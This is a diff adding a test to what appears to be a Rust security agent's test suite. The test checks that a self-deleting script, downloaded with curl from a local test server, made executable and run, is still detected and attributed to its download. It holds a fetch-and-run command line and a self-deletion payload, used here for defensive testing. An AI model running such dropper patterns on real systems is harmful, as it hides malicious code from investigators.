@@ -2455,6 +2455,8 @@ fn http_server() -> String {
                 b"true\n".to_vec()
             } else if request.contains("/run.sh") {
                 b"#!/bin/sh\ntrue\n".to_vec()
+            } else if request.contains("/selfdel.sh") {
+                b"#!/bin/sh\nrm -f \"$0\"\ntrue\n".to_vec()
             } else if request.contains("/true.bin") {
                 std::fs::read("/usr/bin/true").unwrap_or_default()
             } else {
@@ -2946,6 +2948,24 @@ fn binaries_and_scripts_fetched_by_a_downloader_then_run() {
             path == Some(dir.path("r1.sh").as_str())
                 || (what == "script read on standard input" && path == Some("standard input")),
             "{name}: {path:?}"
+        );
+    }
+    // A `#!` script fetched and run that removes itself at once (a self-deleting dropper):
+    // often gone before the agent can look at its file or at the process's executable. The
+    // shell's open of it, with the writer the kernel recorded, still names the download (the
+    // process is known to be the interpreter from the argv the kernel wrote and the inode it
+    // ran: `pipeline::tests::a_gone_script_runs_its_interpreter_when_the_inode_says_so`).
+    for round in 0..3 {
+        let found = script(
+            &format!("removed-{round}.sh"),
+            &format!("rm -f r1.sh\ncurl -s -o r1.sh {url}/selfdel.sh\nchmod +x r1.sh\n./r1.sh"),
+        );
+        let f = of(&found, rule_id);
+        assert_eq!(f.len(), 1, "removed, round {round}: {:?}", kinds(&found));
+        assert_eq!(f[0].context.additional["downloadedBy"], "/usr/bin/curl");
+        assert_eq!(
+            f[0].context.file_path.as_deref(),
+            Some(dir.path("r1.sh").as_str())
         );
     }
     // Benign: a binary copied, not downloaded, and run; a script written locally and run; a
